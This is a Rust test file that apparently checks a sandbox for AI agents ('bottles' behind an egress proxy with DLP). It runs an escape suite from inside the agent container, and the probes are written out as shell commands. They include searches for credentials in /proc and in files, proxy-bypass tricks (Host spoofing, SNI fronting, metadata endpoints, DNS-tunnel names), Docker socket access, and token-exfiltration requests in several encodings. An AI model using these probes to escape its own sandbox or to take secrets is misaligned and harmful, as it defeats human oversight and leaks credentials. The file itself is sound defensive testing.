fn container_ips(name: &str) -> Vec<String> {
    let out = docker(&["inspect", name, "--format", "{{range .NetworkSettings.Networks}}{{.IPAddress}} {{end}}"]);
    String::from_utf8_lossy(&out.stdout).split_whitespace().map(str::to_owned).collect()
}

/// Whether container `name` is running.
fn running(name: &str) -> bool {
    String::from_utf8_lossy(&docker(&["inspect", name, "--format", "{{.State.Running}}"]).stdout).trim() == "true"
}

/// Every file under `dir` whose text holds a form of the token.
fn files_with_token(dir: &Path, forms: &[(&'static str, String)]) -> Vec<String> {
    let mut found = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(path) = stack.pop() {
        if path.is_dir() {
            if let Ok(entries) = std::fs::read_dir(&path) {
                stack.extend(entries.filter_map(|e| e.ok().map(|e| e.path())));
            }
        } else if let Ok(bytes) = std::fs::read(&path)
            && let Some(form) = token_in(forms, &String::from_utf8_lossy(&bytes))
        {
            found.push(format!("{form} in {}", path.display()));
        }
    }
    found
}

/// The agent `prober` and its bottle `fake-net`: the shell template, one route to the fake upstream
/// with the token injected from the host variable, DLP blocking.
fn write_manifests(home: &Path, net: &FakeInternet, gateway: Ipv4Addr) {
    std::fs::create_dir_all(home.join("agents")).expect("agents dir");
    std::fs::create_dir_all(home.join("bottles")).expect("bottles dir");
    let agent = format!("---\nbottle: {BOTTLE}\n---\nProbes the bottle's boundary from the inside.\n");
    std::fs::write(home.join(format!("agents/{AGENT}.md")), agent).expect("agent manifest");
    let bottle = format!(
        r"---
agent_provider:
  template: shell
egress:
  log: 1
  upstream_ca: {ca}
  hosts:
    {FAKE_HOST}: {gateway}
  routes:
    - host: {FAKE_HOST}:{port}
      auth:
        scheme: Bearer
        token_ref: {TOKEN_VAR}
      dlp:
        outbound_on_match: block
---
One route to the fake upstream; the real token stays in the sidecar.
",
        ca = net.ca_pem.display(),
        port = net.https_port,
    );
    std::fs::write(home.join(format!("bottles/{BOTTLE}.md")), bottle).expect("bottle manifest");
}

/// Launches a detached bottle labelled `label` (registered with the guard first, so a launch that
/// dies half-way is still stopped) and returns its slug and `start`'s output.
fn launch(cli: &Cli, bottles: &mut Bottles<'_>, label: &str) -> (String, String) {
    bottles.slugs.push(label.to_owned());
    let out = cli.start(label);
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(
        out.status.success(),
        "`bot-bottle start {AGENT} --yes --detach --label {label}` failed ({:?}):\n{stdout}{stderr}",
        out.status.code()
    );
    let slug = stdout.trim().to_owned();
    assert_eq!(slug, label, "`start --detach` prints the slug on stdout; stderr:\n{stderr}");
    (slug, format!("{stdout}{stderr}"))
}

#[test]
fn escape_suite_every_way_out_is_closed() {
    require_docker();
    let _engine = crate::engine_shared();
    let started = Instant::now();
    let tmp = tempfile::tempdir().expect("temp dir");
    let gateway = bridge_gateway();
    let token = fresh_token();
    let forms = token_forms(&token);
    let injected = format!("Bearer {token}");
    let net = FakeInternet::start(tmp.path(), gateway, &token);
    let (https, tcp_port) = (net.https_port, net.tcp_port);
    let addrs = host_addresses(gateway);
    // The host service answers on every host address: a probe that fails from inside a bottle
    // fails because of the bottle.
    for addr in &addrs {
        let reachable =
            TcpStream::connect_timeout(&SocketAddr::new(IpAddr::V4(*addr), tcp_port), Duration::from_secs(2)).and_then(
                |mut s| {
                    let mut hello = [0u8; 10];
                    s.read_exact(&mut hello)
                },
            );
        assert!(reachable.is_ok(), "the fake host service does not answer on {addr}:{tcp_port}: {reachable:?}");
    }

    let home = tmp.path().join("home");
    let user_home = tmp.path().join("user");
    std::fs::create_dir_all(&user_home).expect("user home");
    write_manifests(&home, &net, gateway);
    let cli = Cli { home: home.clone(), user_home, token: token.clone() };
    let run_id = format!("{}-{}", std::process::id(), rand::rng().random_range(1000..9999));
    let mut bottles = Bottles { cli: &cli, slugs: Vec::new() };
    let (slug, start_output) = launch(&cli, &mut bottles, &format!("escape-a-{run_id}"));
    let a = slug.as_str();
    let launched_in = started.elapsed();

    let mut suite = Suite { cli: &cli, net: &net, rows: Vec::new(), started: Instant::now() };

    // -- the positive control: the one way out works and carries the real token -----------------
    suite.probe_with(
        "control: allowed route, token injected",
        Expect::Pass,
        a,
        &format!("curl -sS -m 10 -w '\\n@@status=%{{http_code}}\\n' https://{FAKE_HOST}:{https}/ok"),
        "",
        |ran| {
            let [seen] = ran.upstream.as_slice() else {
                return Verdict::blocked(format!("upstream saw {} requests: {}", ran.upstream.len(), ran.last_line()));
            };
            let auth_ok = seen.header("authorization") == Some(injected.as_str());
            let shape_ok = seen.tls && seen.sni.as_deref() == Some(FAKE_HOST) && seen.target == "/ok";
            if ran.code == 0 && ran.marker("status") == Some(200) && ran.out.contains("\"authorized\":true") && auth_ok
            {
                if shape_ok {
                    Verdict::passed("200; upstream got `Authorization: Bearer <real token>` over TLS")
                } else {
                    Verdict::passed("200").problem(format!("unexpected upstream request shape: {seen:?}"))
                }
            } else {
                Verdict::blocked(format!("exit {}, auth injected: {auth_ok}: {}", ran.code, ran.last_line()))
            }
        },
    );

    // -- the real token is nowhere the agent can read ----------------------------------------------
    let token_for_env = forms.clone();
    suite.probe("token: agent environment (`env`)", a, "env", |ran| match token_in(&token_for_env, &ran.out) {
        Some(form) => Verdict::passed(format!("{form} form in `env`")),
        None => Verdict::blocked("absent"),
    });
    let patterns = grep_patterns(&forms);
    let proc_search =
        format!("grep -lsa {patterns} /proc/[0-9]*/environ /proc/[0-9]*/cmdline /proc/[0-9]*/task/*/environ");
    let file_search = format!(
        "set --; for d in /*; do [ -L \"$d\" ] && continue; case $d in /proc|/sys|/dev) ;; \
         *) set -- \"$@\" \"$d\";; esac; done\n\
         timeout 80 grep -rlsa {patterns} \"$@\""
    );
    suite.probe("token: /proc/*/environ, /proc/*/cmdline", a, &proc_search, nothing_found);
    suite.probe("token: every file (/etc /home /run /opt /tmp /var …)", a, &file_search, nothing_found);

    // -- the proxy refuses everything but the route -------------------------------------------------
    suite.probe(
        "proxy: https://example.com (no route)",
        a,
        &raw_tunnel("example.com:443", "example.com", "example.com", "/"),
        |ran| explained(ran, proxy_refusal(ran, false)),
    );
    suite.probe("proxy: http://example.com (no route)", a, &curl_proxy("http://example.com/"), |ran| {
        explained(ran, proxy_refusal(ran, false))
    });
    suite.probe(
        "proxy: IP literal https://<gateway>:<port>",
        a,
        &curl_proxy(&format!("-k https://{gateway}:{https}/")),
        |ran| proxy_refusal(ran, false),
    );
    suite.probe(
        "proxy: allowed host, other port",
        a,
        &curl_proxy(&format!("https://{FAKE_HOST}:{tcp_port}/")),
        |ran| proxy_refusal(ran, false),
    );
    suite.probe(
        "proxy: plain http:// to the credential route",
        a,
        &curl_proxy(&format!("http://{FAKE_HOST}:{https}/")),
        |ran| proxy_refusal(ran, false),
    );
    suite.probe(
        "proxy: Host-header spoof (http://evil, Host: api)",
        a,
        &curl_proxy(&format!("-H 'Host: {FAKE_HOST}:{https}' http://evil.example.com/")),
        |ran| proxy_refusal(ran, false),
    );
    suite.probe(
        "proxy: origin-form request, Host: api",
        a,
        &format!(
            "curl -sS -v -m 8 --noproxy '*' -H 'Host: {FAKE_HOST}:{https}' \
             -w '\\n@@status=%{{http_code}}\\n' {PROXY}/ok"
        ),
        |ran| proxy_refusal(ran, false),
    );
    suite.probe(
        "proxy: CONNECT api, TLS SNI evil.example.com",
        a,
        &raw_tunnel(&format!("{FAKE_HOST}:{https}"), "evil.example.com", "evil.example.com", "/sni"),
        |ran| proxy_refusal(ran, true),
    );
    suite.probe(
        "proxy: CONNECT api, SNI api, Host: evil (fronting)",
        a,
        &raw_tunnel(&format!("{FAKE_HOST}:{https}"), FAKE_HOST, "evil.example.com", "/front"),
        |ran| proxy_refusal(ran, true),
    );
    suite.probe(
        "proxy: CONNECT evil.example.com, SNI api",
        a,
        &raw_tunnel(&format!("evil.example.com:{https}"), FAKE_HOST, &format!("{FAKE_HOST}:{https}"), "/"),
        |ran| proxy_refusal(ran, true),
    );
    suite.probe(
        "proxy: DNS-tunnel-shaped aGVsbG8gd29ybGQ.exfil…",
        a,
        &curl_proxy("https://aGVsbG8gd29ybGQ.exfil.example.com/"),
        |ran| proxy_refusal(ran, false),
    );
    suite.probe(
        "proxy: metadata http://169.254.169.254",
        a,
        &curl_proxy("http://169.254.169.254/latest/meta-data/"),
        |ran| proxy_refusal(ran, false),
    );
    suite.probe("proxy: metadata https://169.254.169.254", a, &curl_proxy("-k https://169.254.169.254/"), |ran| {
        proxy_refusal(ran, false)
    });
    suite.probe(
        "proxy: IPv6 https://[2606:4700:4700::1111]",
        a,
        &curl_proxy("https://[2606:4700:4700::1111]/"),
        |ran| proxy_refusal(ran, false),
    );
    suite.probe(
        "proxy: sidecar control http://127.0.0.1:9200",
        a,
        &curl_proxy(&format!("http://127.0.0.1:{CONTROL_PORT}/")),
        |ran| proxy_refusal(ran, false),
    );
    suite.probe(
        "proxy: sidecar control http://localhost:9200",
        a,
        &curl_proxy(&format!("http://localhost:{CONTROL_PORT}/")),
        |ran| proxy_refusal(ran, false),
    );

    // -- nothing but the relay: no interface, route, DNS, host, metadata or engine socket ---------
    suite.probe("net: interfaces besides lo", a, "ls /sys/class/net", |ran| {
        let ifaces: Vec<&str> = ran.out.split_whitespace().collect();
        if ifaces == ["lo"] { Verdict::blocked("only lo") } else { Verdict::passed(format!("interfaces: {ifaces:?}")) }
    });
    suite.probe(
        "direct: https://<gateway>:<port>, no proxy",
        a,
        &format!("curl -sS -v -k -m 4 --noproxy '*' https://{gateway}:{https}/"),
        |ran| closed(ran, false),
    );
    for addr in &addrs {
        let loopback = addr.is_loopback();
        suite.probe(&format!("direct: nc {addr}:<tcp service>"), a, &format!("nc -vz -w 3 {addr} {tcp_port}"), |ran| {
            closed(ran, loopback)
        });
    }
    suite.probe(
        "direct: metadata http://169.254.169.254",
        a,
        "curl -sS -v -m 3 --noproxy '*' http://169.254.169.254/latest/meta-data/",
        |ran| closed(ran, false),
    );
    suite.probe("direct: nc 169.254.169.254:80", a, "nc -vz -w 3 169.254.169.254 80", |ran| closed(ran, false));
    suite.probe(
        "direct: IPv6 curl -6 https://[2606:4700:4700::1111]",
        a,
        "curl -6 -sS -v -m 3 --noproxy '*' https://[2606:4700:4700::1111]/",
        |ran| closed(ran, false),
    );
    suite.probe("direct: nc -6 2606:4700:4700::1111 443", a, "nc -6 -vz -w 3 2606:4700:4700::1111 443", |ran| {
        closed(ran, false)
    });
    suite.probe(
        "direct: sidecar control 127.0.0.1:9200",
        a,
        &format!("nc -vz -w 3 127.0.0.1 {CONTROL_PORT}; curl -sS -m 3 --noproxy '*' http://127.0.0.1:{CONTROL_PORT}/"),
        |ran| {
            if ran.out.contains("succeeded") {
                Verdict::passed(format!("something listens: {}", ran.last_line()))
            } else {
                closed(ran, true)
            }
        },
    );
    suite.probe("dns: getent hosts example.com", a, "timeout 10 getent hosts example.com", |ran| {
        if ran.code == 0 { Verdict::passed(format!("resolved: {}", ran.last_line())) } else { closed(ran, false) }
    });
    suite.probe(
        "dns: getent hosts aGVsbG8gd29ybGQ.exfil.example.com",
        a,
        "timeout 10 getent hosts aGVsbG8gd29ybGQ.exfil.example.com",
        |ran| {
            if ran.code == 0 { Verdict::passed(format!("resolved: {}", ran.last_line())) } else { closed(ran, false) }
        },
    );
    suite.probe("dns: dig @8.8.8.8 example.com", a, "timeout 10 dig @8.8.8.8 example.com +time=2 +tries=1", |ran| {
        if ran.code == 0 || ran.out.contains("->>HEADER<<-") {
            Verdict::passed(format!("a DNS server answered: {}", ran.last_line()))
        } else {
            Verdict::blocked(ran.last_line())
        }
    });
    suite.probe("dns: dig example.com (resolv.conf)", a, "timeout 10 dig example.com +time=2 +tries=1", |ran| {
        if ran.code == 0 || ran.out.contains("->>HEADER<<-") {
            Verdict::passed(format!("a DNS server answered: {}", ran.last_line()))
        } else {
            Verdict::blocked(ran.last_line())
        }
    });
    suite.probe(
        "engine: /var/run/docker.sock, /run/docker.sock",
        a,
        "for s in /var/run/docker.sock /run/docker.sock; do if [ -e \"$s\" ]; then echo \"present: $s\"; fi; done; \
         curl -sS -m 3 --unix-socket /var/run/docker.sock http://engine/version",
        |ran| {
            if ran.out.contains("present:") || ran.code == 0 {
                Verdict::passed(ran.last_line())
            } else {
                Verdict::blocked("absent")
            }
        },
    );

    // -- secret exfiltration on the allowed route: DLP blocks, the upstream never sees it ---------
    let api = format!("https://{FAKE_HOST}:{https}");
    let exfil = [
        ("path", format!("url = \"{api}/leak/{token}\"\n")),
        ("query", format!("url = \"{api}/leak?key={token}\"\n")),
        ("custom header", format!("url = \"{api}/leak\"\nheader = \"X-Leak: {token}\"\n")),
        ("body, raw", format!("url = \"{api}/leak\"\ndata-binary = \"{token}\"\n")),
        ("body, base64", format!("url = \"{api}/leak\"\ndata-binary = \"{}\"\n", base64(token.as_bytes()))),
        ("body, hex", format!("url = \"{api}/leak\"\ndata-binary = \"{}\"\n", hex(token.as_bytes()))),
        (
            "body, percent-encoded",
            format!("url = \"{api}/leak\"\ndata-binary = \"{}\"\n", percent_all(token.as_bytes())),
        ),
    ];
    for (what, config) in &exfil {
        // The curl config comes on stdin: the token is in no argv inside the bottle.
        suite.probe_with(
            &format!("exfil: token in the {what}"),
            Expect::Block,
            a,
            "curl -sS -v -m 10 -o - -w '\\n@@status=%{http_code}\\n' -K -",
            config,
            |ran| match proxy_refusal(ran, false) {
                v if v.passed => v,
                v if ran.marker("status") == Some(403) => v,
                v => v.problem("expected a DLP 403"),
            },
        );
    }

    // -- the searches would have found it: plant the token as an agent that obtained it would -----
    suite.probe_with(
        "control: /proc search finds a planted environ",
        Expect::Pass,
        a,
        &format!("env PLANTED=\"$(cat)\" sleep 30 &\nsleep 0.3\n{proc_search}\nkill $!"),
        &token,
        |ran| found_planted(ran, "/environ"),
    );
    suite.probe_with(
        "control: file search finds a planted file",
        Expect::Pass,
        a,
        &format!("cat > /home/node/.planted\n{file_search}\nrm -f /home/node/.planted"),
        &token,
        |ran| found_planted(ran, "/home/node/.planted"),
    );

    // -- a second bottle is out of reach ------------------------------------------------------------
    let (slug_b, start_output_b) = launch(&cli, &mut bottles, &format!("escape-b-{run_id}"));
    let b = slug_b.as_str();
    let list = cli.cmd().args(["list", "--format", "json"]).output().expect("`list` runs");
    let rows: serde_json::Value = serde_json::from_slice(&list.stdout).unwrap_or_default();
    for s in [a, b] {
        let status = rows
            .as_array()
            .and_then(|rows| rows.iter().find(|r| r["slug"] == s))
            .and_then(|r| r["status"].as_str())
            .unwrap_or("missing")
            .to_owned();
        suite.check(
            &format!("list: `{s}` is running"),
            if status == "running" { Ok(status) } else { Err(format!("`list --format json` shows `{status}`")) },
        );
    }
    suite.probe_with(
        "control: bottle B's allowed route",
        Expect::Pass,
        b,
        &format!("curl -sS -m 10 -w '\\n@@status=%{{http_code}}\\n' https://{FAKE_HOST}:{https}/ok-b"),
        "",
        |ran| {
            if ran.code == 0 && ran.out.contains("\"authorized\":true") && ran.upstream.len() == 1 {
                Verdict::passed("200, token injected")
            } else {
                Verdict::blocked(ran.last_line())
            }
        },
    );
    let sidecar_a = format!("bot-bottle-sidecars-{a}");
    let sidecar_b = format!("bot-bottle-sidecars-{b}");
    for (who, sidecar) in [("B's", &sidecar_b), ("A's own", &sidecar_a)] {
        let ips = container_ips(sidecar);
        let script = if ips.is_empty() {
            "echo 'no sidecar IP found'; false".to_owned()
        } else {
            ips.iter().map(|ip| format!("nc -vz -w 3 {ip} 9099; nc -vz -w 3 {ip} 80")).collect::<Vec<_>>().join("; ")
        };
        let problem = ips.is_empty().then(|| format!("no IP for `{sidecar}`"));
        suite.probe(&format!("other bottle: nc {who} sidecar {ips:?}"), a, &script, |ran| {
            let lower = ran.out.to_ascii_lowercase();
            let verdict = if lower.contains("succeeded") || lower.contains("refused") || ran.reached_host().is_some() {
                Verdict::passed(format!("a network path exists: {}", ran.last_line()))
            } else {
                Verdict::blocked(ran.last_line())
            };
            match problem {
                Some(p) => verdict.problem(p),
                None => verdict,
            }
        });
    }
    let b_for_mounts = b.to_owned();
    suite.probe(
        "other bottle: only A's own sockets in /run/bot-bottle/sock",
        a,
        "ls -A /run/bot-bottle/sock; echo @@mounts; cat /proc/self/mountinfo",
        |ran| {
            let (sockets, mounts) = ran.out.split_once("@@mounts").unwrap_or((&ran.out, ""));
            let sockets: Vec<&str> = sockets.split_whitespace().collect();
            if mounts.contains(&b_for_mounts) {
                Verdict::passed("B's slug shows in A's mounts")
            } else if sockets.contains(&"egress.sock")
                && sockets.iter().all(|s| ["egress.sock", "supervise.sock", "git-gate.sock"].contains(s))
            {
                Verdict::blocked(format!("only A's own service sockets {sockets:?}; B's slug in no mount"))
            } else {
                Verdict::passed(format!("sockets: {sockets:?}"))
            }
        },
    );
    let mounts_a = docker_text(&["inspect", &format!("bot-bottle-{a}"), "--format", "{{json .Mounts}}"]);
    suite.host_check(
        "other bottle: A's container mounts nothing of B",
        mounts_a.contains(b).then(|| format!("mounts: {}", mounts_a.trim())),
        "no volume or path of B",
    );
    let marker = format!("marker-{run_id}.example");
    suite.probe(
        "other bottle: A's relay leads to A's sidecar only",
        a,
        &curl_proxy(&format!("https://{marker}/")),
        |ran| proxy_refusal(ran, false),
    );
    let audit = |s: &str| std::fs::read_to_string(home.join(format!("state/{s}/audit.jsonl"))).unwrap_or_default();
    let (audit_a, audit_b) = (audit(a), audit(b));
    suite.host_check(
        "other bottle: A's request in B's audit log",
        audit_b.contains(&marker).then(|| "B's sidecar logged A's request".to_owned()),
        "only in A's",
    );
    suite.check(
        "audit: A's log records A's denied request",
        if audit_a.contains(&marker) { Ok("recorded".into()) } else { Err("not in A's audit log".into()) },
    );

    // -- the token never left the sidecar: engine metadata, images, logs, files on the host -----
    let agent_image = docker_text(&["inspect", &format!("bot-bottle-{a}"), "--format", "{{.Config.Image}}"]);
    let agent_image = agent_image.trim();
    let mut host_views: Vec<(String, String)> = vec![
        (format!("docker image inspect {agent_image}"), docker_text(&["image", "inspect", agent_image])),
        (format!("docker history --no-trunc {agent_image}"), docker_text(&["history", "--no-trunc", agent_image])),
    ];
    for s in [a, b] {
        for container in [format!("bot-bottle-{s}"), format!("bot-bottle-sidecars-{s}")] {
            host_views.push((format!("docker inspect {container}"), docker_text(&["inspect", &container])));
            host_views.push((format!("docker logs {container}"), docker_text(&["logs", &container])));
        }
    }
    host_views.push(("output of `start` (both bottles)".into(), format!("{start_output}{start_output_b}")));
    for (what, text) in &host_views {
        suite.host_check(
            &format!("token: {what}"),
            token_in(&forms, text).map(|form| format!("{form} form present")),
            "absent",
        );
    }
    let in_home = files_with_token(&home, &forms);
    suite.host_check(
        "token: files in the home (state, audit logs)",
        (!in_home.is_empty()).then(|| in_home.join(", ")),
        "absent",
    );
    let leaked: Vec<String> = net
        .seen
        .lock()
        .expect("seen")
        .iter()
        .filter_map(|s| s.token_outside_auth(&forms, &injected).map(|w| format!("{} {}: {w}", s.method, s.target)))
        .collect();
    suite.host_check(
        "token: upstream saw it outside the injected header",
        (!leaked.is_empty()).then(|| leaked.join("; ")),
        "never",
    );
    let plaintext = net.seen.lock().expect("seen").iter().filter(|s| !s.tls).count();
    suite.host_check(
        "upstream: a request arrived without TLS",
        (plaintext > 0).then(|| format!("{plaintext} plaintext request(s)")),
        "none",
    );

    // -- the sidecar dies: the bottle has no way out left -------------------------------------------
    let kill = docker(&["kill", &sidecar_a]);
    let deadline = Instant::now() + Duration::from_secs(10);
    while running(&sidecar_a) && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(100));
    }
    let killed = kill.status.success() && !running(&sidecar_a);
    suite.probe(
        "sidecar killed: allowed route",
        a,
        &format!("curl -sS -m 8 https://{FAKE_HOST}:{https}/after-kill"),
        |ran| {
            let verdict = closed(ran, true);
            if killed { verdict } else { verdict.problem("the sidecar could not be killed") }
        },
    );
    suite.probe("sidecar killed: interfaces besides lo", a, "ls /sys/class/net", |ran| {
        let ifaces: Vec<&str> = ran.out.split_whitespace().collect();
        if ifaces == ["lo"] { Verdict::blocked("only lo") } else { Verdict::passed(format!("interfaces: {ifaces:?}")) }
    });
    suite.probe(
        "sidecar killed: direct https://<gateway>:<port>",
        a,
        &format!("curl -sS -v -k -m 4 --noproxy '*' https://{gateway}:{https}/"),
        |ran| closed(ran, false),
    );

    let table = suite.table();
    eprintln!("{table}");

    // -- teardown: everything labelled with either slug is gone -------------------------------------
    let mut teardown = Vec::new();
    for s in std::mem::take(&mut bottles.slugs) {
        let out = cli.stop(&s);
        if !out.status.success() {
            teardown.push(format!("`stop {s}` failed: {}", String::from_utf8_lossy(&out.stderr).trim()));
        }
        let filter = format!("label=bot-bottle.slug={s}");
        for (kind, args) in [
            ("containers", vec!["ps", "-a", "-q", "--filter", &filter]),
            ("networks", vec!["network", "ls", "-q", "--filter", &filter]),
            ("volumes", vec!["volume", "ls", "-q", "--filter", &filter]),
        ] {
            let left = String::from_utf8_lossy(&docker(&args).stdout).trim().to_owned();
            if !left.is_empty() {
                teardown.push(format!("{kind} of `{s}` left after stop: {}", left.replace('\n', " ")));
            }
        }
    }
    eprintln!(
        "escape suite: first launch {launched_in:.1?}, whole run {:.1?}; {} probes",
        started.elapsed(),
        suite.rows.len()
    );

    let mut failures = suite.failures();
    failures.extend(teardown);
    assert!(failures.is_empty(), "the sandbox-escape suite failed:\n  {}\n\n{table}", failures.join("\n  "));
}

/// Invariant 1 for every built-in provider with a credential (Claude Code, Codex, Pi): the real
/// value is in no file, environment or command line of the agent container, the agent holds the
/// placeholder, and the real CLI's request leaves the sidecar carrying the real value.
#[test]
fn every_provider_bottle_holds_only_its_placeholder() {
    crate::providers::every_provider_holds_only_its_placeholder();
}
